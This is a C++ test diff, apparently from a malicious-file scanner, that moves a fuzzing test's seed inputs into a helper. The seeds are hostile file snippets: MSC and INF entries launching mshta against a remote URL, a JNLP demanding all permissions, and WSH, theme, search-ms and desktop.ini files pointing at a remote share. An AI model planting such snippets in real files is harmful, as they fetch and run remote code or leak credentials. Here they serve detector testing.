@@ -5,7 +5,6 @@
 
 #include "model/judge.h"
 #include "scanner/active/active_test_tools.h"
-#include "tests/fixtures/mutate.h"
 
 namespace sekisho::scanner::active {
 namespace {
@@ -153,20 +152,14 @@ INSTANTIATE_TEST_SUITE_P(
     [](const auto& info) { return info.param.name; });
 
 TEST(SettingsProperty, CutsAndDamageEnd) {
-    const std::vector<std::pair<std::string, std::string>> seeds{
-        {task("cmd.exe", "/c mshta http://example.invalid/i"), "a.msc"},
-        {search("\\\\192.0.2.7@80\\s"), "a.search-ms"},
-        {jnlp("http://example.invalid/", "<all-permissions/>"), "a.jnlp"},
-        {setup("RunPreSetupCommands=X\r\n[X]\r\nmshta http://example.invalid/"), "a.inf"},
-        {"[ScriptFile]\r\nPath=\\\\192.0.2.7@80\\s\\a.vbs\r\n", "a.wsh"},
-        {"[Theme]\r\nPath=\\\\192.0.2.7\\s\r\n", "a.theme"},
-        {"[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.7\\s,0\r\n", "desktop.ini"}};
-    for (const auto& [bytes, name] : seeds) {
-        for (std::size_t size = 0; size <= bytes.size(); ++size)
-            EXPECT_LE(open_file(bytes.substr(0, size), name).labels.size(), 1u);
-        for (std::uint32_t seed = 1; seed <= 300; ++seed)
-            EXPECT_LE(open_file(fixtures::mutate(bytes, seed), name).labels.size(), 1u);
-    }
+    expect_cuts_and_damage_end(
+        {{task("cmd.exe", "/c mshta http://example.invalid/i"), "a.msc"},
+         {search("\\\\192.0.2.7@80\\s"), "a.search-ms"},
+         {jnlp("http://example.invalid/", "<all-permissions/>"), "a.jnlp"},
+         {setup("RunPreSetupCommands=X\r\n[X]\r\nmshta http://example.invalid/"), "a.inf"},
+         {"[ScriptFile]\r\nPath=\\\\192.0.2.7@80\\s\\a.vbs\r\n", "a.wsh"},
+         {"[Theme]\r\nPath=\\\\192.0.2.7\\s\r\n", "a.theme"},
+         {"[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.7\\s,0\r\n", "desktop.ini"}});
 }
 
 }  // namespace
